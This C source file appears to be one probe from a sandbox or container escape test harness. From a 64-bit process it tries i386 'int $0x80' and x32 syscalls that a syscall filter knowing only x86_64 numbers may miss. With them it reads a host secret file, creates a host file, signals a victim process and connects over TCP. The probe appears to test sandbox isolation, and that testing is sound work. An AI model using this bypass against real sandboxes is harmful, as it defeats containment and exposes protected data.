// Other syscall ABIs from a 64-bit process: the i386 table through `int $0x80` (open, kill,
// socketcall) and the x32 table (nr | 0x40000000). A filter that only knows x86_64 numbers lets
// them through untranslated. Each try runs in a child (a killed child is reported, not fatal).
#include "probe.h"

static long int80(long nr, long a, long b, long c) {
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "0"(nr), "b"(a), "c"(b), "d"(c) : "memory");
  return ret;
}

static void run_child(const char* what, void (*fn)(void)) {
  pid_t c = fork();
  if (c == 0) {
    fn();
    _exit(0);
  }
  int st = 0;
  waitpid(c, &st, 0);
  if (WIFSIGNALED(st) && WTERMSIG(st) == SIGSEGV)
    p_line("ATTEMPT", "%s: NOT TESTED: int $0x80 faults (a kernel without ia32 emulation)", what);
  else if (WIFSIGNALED(st))
    p_line("ATTEMPT", "%s: child killed by signal %d", what, WTERMSIG(st));
}

static char* low;  // below 4 GiB, for 32-bit pointers

static void i386_open(void) {
  strcpy(low, p_strf("%s/host/secret.txt", T()));
  long fd = int80(5 /*open*/, (long)(uintptr_t)low, O_RDONLY, 0);
  if (fd < 0) errno = (int)-fd;
  ATT(fd < 0 ? -1 : fd, "int80 open(host secret)");
  if (fd >= 0) loot_fd("i386 open", (int)fd);
  strcpy(low, p_strf("%s/host/ocib-esc-%s-i386", T(), nonce()));
  fd = int80(8 /*creat*/, (long)(uintptr_t)low, 0644, 0);
  if (fd < 0) errno = (int)-fd;
  ATT(fd < 0 ? -1 : fd, "int80 creat(host file)");
}

static void i386_kill(void) {
  long v = hint_long("VICTIM");
  long rc = int80(37 /*kill*/, v, SIGUSR1, 0);
  if (rc < 0) errno = (int)-rc;
  ATT(rc < 0 ? -1 : rc, "int80 kill(victim)");
}

static void i386_socket(void) {
  unsigned* args = (unsigned*)(low + 2048);
  args[0] = AF_INET;
  args[1] = SOCK_STREAM;
  args[2] = 0;
  long s = int80(102 /*socketcall*/, 1 /*SYS_SOCKET*/, (long)(uintptr_t)args, 0);
  if (s < 0) errno = (int)-s;
  ATT(s < 0 ? -1 : s, "int80 socketcall(SOCKET, AF_INET)");
  long port = hint_long("TCP");
  if (s >= 0 && port > 0) {
    struct sockaddr_in* a = (struct sockaddr_in*)(low + 1024);
    memset(a, 0, sizeof *a);
    a->sin_family = AF_INET;
    a->sin_port = htons((uint16_t)port);
    a->sin_addr.s_addr = htonl(0x7f000001);
    args[0] = (unsigned)s;
    args[1] = (unsigned)(uintptr_t)a;
    args[2] = sizeof *a;
    long rc = int80(102, 3 /*SYS_CONNECT*/, (long)(uintptr_t)args, 0);
    if (rc < 0) errno = (int)-rc;
    if (ATT(rc < 0 ? -1 : rc, "int80 socketcall(CONNECT)") == 0) p_escape("i386 TCP connect");
  }
}

static void x32_open(void) {
  strcpy(low, p_strf("%s/host/secret.txt", T()));
  long fd = syscall(0x40000000L | 257 /*openat*/, AT_FDCWD, low, O_RDONLY);
  ATT(fd, "x32 openat(host secret)");
  if (fd >= 0) loot_fd("x32 openat", (int)fd);
}

int main(void) {
  p_start();
  low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) p_end();
  run_child("i386 open", i386_open);
  run_child("i386 kill", i386_kill);
  run_child("i386 socketcall", i386_socket);
  run_child("x32 openat", x32_open);
  p_end();
}
